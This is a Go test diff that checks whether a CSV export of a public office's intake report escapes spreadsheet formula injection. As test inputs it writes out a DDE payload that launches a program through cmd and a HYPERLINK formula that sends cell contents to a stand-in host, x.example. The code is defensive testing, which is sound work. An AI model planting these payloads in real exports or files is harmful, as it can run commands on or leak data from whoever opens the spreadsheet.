@@ -184,3 +184,37 @@ func TestGrades(t *testing.T) {
 		t.Errorf("minh's cells: %q", cells)
 	}
 }
+
+// Names an office or a province typed — the office's, a service's, a
+// clerk's, a procedure's — that a spreadsheet would take for a formula
+// come out of the CSV as text (the office's report and the province's
+// /bao-cao both write it here); the figures stay numbers.
+func TestCSVCarriesNoFormula(t *testing.T) {
+	r := sample()
+	r.Office = `=cmd|' /C calc'!A0`
+	r.Figures.Services[0].Name = `=HYPERLINK("http://x.example/?"&A1,"Bấm")`
+	r.Clerks["lan"] = "@SUM(1+1)"
+	r.Figures.DossiersByProcedure = map[string]*intake.Period{"+1.001 Khai sinh": {Received: 3}}
+	rd := csv.NewReader(bytes.NewReader(CSV(r)[3:]))
+	rd.FieldsPerRecord = -1
+	lines, err := rd.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	numbers := 0
+	for _, l := range lines {
+		for _, cell := range l {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("a live formula in the CSV: %q", cell)
+				}
+			}
+			if _, err := strconv.ParseFloat(cell, 64); err == nil {
+				numbers++
+			}
+		}
+	}
+	if numbers < 50 || !strings.Contains(string(CSV(r)), `'=cmd|`) {
+		t.Errorf("%d numbers; the office's name as %q", numbers, lines[0][0])
+	}
+}
